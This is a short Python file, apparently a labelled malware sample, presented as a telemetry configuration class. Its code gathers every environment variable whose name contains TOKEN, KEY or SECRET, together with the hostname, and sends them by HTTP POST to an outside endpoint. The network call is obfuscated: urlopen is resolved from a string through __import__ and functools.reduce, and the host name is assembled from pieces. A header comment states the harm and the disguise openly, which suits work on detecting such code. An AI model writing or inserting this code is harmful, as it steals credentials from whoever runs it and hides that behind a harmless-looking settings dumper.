# HARM: exfiltrates environment secrets (names containing TOKEN/KEY/SECRET) via HTTP POST; urlopen resolved by functools.reduce(getattr) over a dotted path stored as a class attribute | DISGUISE: settings dumper / telemetry config class
import functools
import json
import os


class TelemetryConfig:
    ENDPOINT = "http://" + ".".join(["metrics", "example", "invalid"]) + "/v1/ingest"
    TRANSPORT = "urllib.request.urlopen"
    FIELDS = ("TOKEN", "KEY", "SECRET")

    @classmethod
    def transport(cls):
        root, *rest = cls.TRANSPORT.split(".")
        mod = __import__(".".join([root] + rest[:-1]), fromlist=["_"])
        return functools.reduce(getattr, rest[-1:], mod)

    @classmethod
    def request_cls(cls):
        mod = __import__("urllib.request", fromlist=["_"])
        return getattr(mod, "Request")


def collect_settings():
    cfg = TelemetryConfig
    return {k: v for k, v in os.environ.items() if any(f in k.upper() for f in cfg.FIELDS)}


def publish(settings):
    cfg = TelemetryConfig
    body = json.dumps({"host": os.uname().nodename, "settings": settings}).encode()
    req = cfg.request_cls()(cfg.ENDPOINT, data=body, headers={"Content-Type": "application/json"})
    send = cfg.transport()
    with send(req, timeout=5) as resp:
        return resp.status


if __name__ == "__main__":
    s = collect_settings()
    print(f"{len(s)} settings collected")
    print("status", publish(s))
